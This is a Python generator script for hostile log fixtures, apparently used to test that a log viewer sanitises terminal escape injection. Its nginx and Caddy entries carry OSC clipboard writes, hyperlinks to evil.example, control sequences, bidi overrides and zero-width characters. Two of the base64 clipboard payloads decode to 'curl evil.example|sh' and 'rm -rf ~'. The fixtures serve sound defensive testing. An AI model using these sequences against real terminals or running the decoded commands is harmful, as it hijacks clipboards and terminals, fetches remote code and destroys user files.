#!/usr/bin/env python3
"""Regenerates the byte-exact hostile fixtures next to this script.

Run from anywhere: python3 tests/data/hostile/gen.py. Written as Python so the
bytes are readable here; the outputs are committed and tests read them as they are.
See README for what each line carries.
"""
import json
import os

E = "\x1b"
ST = E + "\\"
BEL = "\x07"
HERE = os.path.dirname(os.path.abspath(__file__))


def b(s):
    """Text with raw bytes: \\uXXXX up to U+00FF as written become the byte,
    everything else UTF-8. Raw C1 bytes are spelled as \\x9b etc. in str via
    latin-1 surrogate below."""
    return s.encode("utf-8", "surrogateescape")


def raw(byte):
    """One raw byte (0x80-0xFF) that is not UTF-8: a surrogateescape char."""
    return chr(0xDC00 + byte)


C1 = {n: raw(n) for n in (0x90, 0x98, 0x9B, 0x9C, 0x9D, 0x9E, 0x9F)}

# (ip, path, user agent, referer); paths hold no space or double quote.
COMBINED = [
    # OSC 8 hyperlinks (ST and BEL terminated)
    ("45.56.1.1",
     f"/{E}]8;;https://evil.example/{ST}login{E}]8;;{ST}",
     f"{E}]8;;https://evil.example/{BEL}click me{E}]8;;{BEL}",
     f"{E}]8;;https://evil.example/{ST}ref"),
    # OSC 52 clipboard writes (set and query)
    ("45.56.1.2",
     f"/{E}]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2gK{BEL}",
     f"Mozilla/5.0 {E}]52;p;cm0gLXJmIH4K{ST} {E}]52;c;?{BEL}",
     "-"),
    # OSC 0/1/2 window and icon titles
    ("45.56.1.3",
     f"/{E}]0;pwned{BEL}",
     f"{E}]2;You have been pwned{ST} {E}]1;icon{BEL}",
     "-"),
    # 8-bit C1 controls as raw bytes (invalid UTF-8): CSI, OSC, ST, DCS
    ("45.56.1.4",
     f"/{C1[0x9B]}2J{C1[0x9B]}31mred",
     f"{C1[0x9B]}6n {C1[0x9B]}>0q {C1[0x9D]}0;title{C1[0x9C]} {C1[0x90]}q{C1[0x9C]}",
     "-"),
    # the same C1 controls as UTF-8 code points (C2 9B, C2 9D...)
    ("45.56.1.5",
     "/\u009b2J\u009b31m",
     "\u009b6n \u009d0;t\u009c \u0090+q544e\u009c \u009b>0q",
     "-"),
    # DCS: XTGETTCAP, DECRQSS, a tmux passthrough wrapping OSC 52
    ("45.56.1.6",
     f"/{E}P+q544e{ST}",
     # (not ending in ST: a backslash before the closing quote escapes it)
     f"{E}P$qm{ST} {E}Ptmux;{E}{E}]52;c;ZXZpbA=={BEL}{ST} {C1[0x90]}1$r{C1[0x9C]}.",
     "-"),
    # queries that make a terminal answer into our input, and mode switches
    ("45.56.1.7",
     f"/{E}[>0q{E}[c{E}[6n",
     f"{E}[>0q {E}[?1049l {E}[21t {E}[?1000h {E}[?2004h {E}[2J{E}[H {E}[0c",
     "-"),
    # bidi overrides, embeddings and isolates (Trojan Source)
    ("45.56.1.8",
     "/admin\u202e/gpj.exe\u2066x\u2069\u202a\u202b\u202c\u202d\u2067\u2068",
     "Mozilla\u202e)tnegA-resU\u2067\u2068\u2069",
     "-"),
    # zero-width space, non-joiner, joiner, word joiner, BOM
    ("45.56.1.9",
     "/lo\u200bgin\u200c\u200d\u2060\ufeff",
     "Good\u200dBot\ufeff\u2060\u200b",
     "-"),
    # APC (kitty graphics), PM, SOS, also as raw C1 bytes
    ("45.56.2.1",
     f"/{E}_Gf=100;AAAA{ST}",
     f"{E}^pm{ST} {E}Xsos{ST} {C1[0x9F]}apc{C1[0x9C]} {C1[0x9E]}pm{C1[0x9C]} {C1[0x98]}sos{C1[0x9C]}",
     "-"),
    # nginx-escaped text: harmless and must stay literal (never unescaped)
    ("45.56.2.2",
     "/\\x1B]0;t\\x07",
     "\\x1B[2J\\x1B]52;c;eA==\\x07",
     "-"),
    # other C0 controls and DEL
    ("45.56.2.3",
     "/\b\b\b\x7f\x0b\x0c" + BEL,
     "bs\b\b del\x7f vt\x0b ff\x0c so\x0e si\x0f",
     "-"),
]

CADDY = [
    ("45.56.3.1",
     f"/{E}]8;;https://evil.example/{ST}x{E}]8;;{ST}",
     [f"{E}]52;c;ZXZpbA=={BEL}"]),
    ("45.56.3.2",
     "/\u009b2J\u009d0;t\u009c",
     f"{E}[>0q{E}P+q544e{ST}"),
    ("45.56.3.3",
     "/\u202e\u2066\u200b\ufeff",
     [f"{E}_apc{ST}{E}]0;pwned{BEL}", "\u0090dcs\u009c"]),
    ("45.56.3.4",
     f"/{E}[?1049l{E}c{E}]2;t{ST}",
     f"{E}[6n\u200d\u2069"),
    # written without ensure_ascii: U+009B, U+202E, U+200D as raw UTF-8 in the JSON
    ("45.56.3.5",
     "/\u009b2J\u202e\u200d\u2066",
     "\u009d0;t\u009c\ufeff\u2068"),
]


def combined():
    out = []
    for i, (ip, path, ua, ref) in enumerate(COMBINED):
        line = (f'{ip} - - [10/Oct/2023:13:55:{i:02} +0000] "GET {path} HTTP/1.1" '
                f'404 {100 + i} "{ref}" "{ua}"\n')
        out.append(b(line))
    return b"".join(out)


def caddy():
    out = []
    for i, (ip, uri, ua) in enumerate(CADDY):
        obj = {
            "level": "info", "ts": 1697101200.25 + i, "logger": "http.log.access",
            "msg": "handled request",
            "request": {"remote_ip": ip, "remote_port": "41342", "client_ip": ip,
                        "proto": "HTTP/1.1", "method": "GET", "host": "example.com",
                        "uri": uri, "headers": {"User-Agent": ua}},
            "status": 404, "size": 10 + i,
        }
        # ensure_ascii: every control and non-ASCII character as a \\uXXXX
        # escape; the last line keeps non-ASCII raw (controls stay escaped).
        ascii_only = i < len(CADDY) - 1
        out.append(json.dumps(obj, ensure_ascii=ascii_only).encode() + b"\n")
    return b"".join(out)


for name, data in (("combined.log", combined()), ("caddy.json", caddy())):
    with open(os.path.join(HERE, name), "wb") as f:
        f.write(data)
